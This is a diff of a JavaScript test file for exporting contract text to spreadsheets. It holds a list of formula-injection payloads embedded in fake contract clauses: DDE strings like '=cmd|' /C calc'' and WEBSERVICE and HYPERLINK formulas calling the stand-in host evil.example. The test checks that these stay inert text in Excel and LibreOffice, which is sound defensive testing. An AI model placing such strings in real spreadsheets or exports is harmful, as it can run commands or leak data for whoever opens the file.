@@ -95,7 +95,8 @@ test('a workbook of the whole corpus has a line a contract', async () => {
 })
 
 // Of a buyer whose supplier is not a friend.
-const payloads = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|calc!A0', '+1+cmd|calc!A0', '-1+cmd|calc!A0', '=HYPERLINK("http://evil.example/","x")', '=WEBSERVICE("http://evil.example/")']
+// Without "!": a sentence would end there, and the quote begin after it.
+const payloads = ["=cmd|' /C calc'", '@SUM(1+1)*cmd|calc', '+1+cmd|calc', '-1+cmd|calc', '=HYPERLINK("http://evil.example/","x")', '=WEBSERVICE("http://evil.example/")']
 const hostile = payloads.map(p => `${p} The Supplier may increase the prices at any time; ${p}\tThe liability of the Supplier is excluded.`).join('\n\n')
 
 test('a hostile contract stays text in Excel and in LibreOffice', async t => {
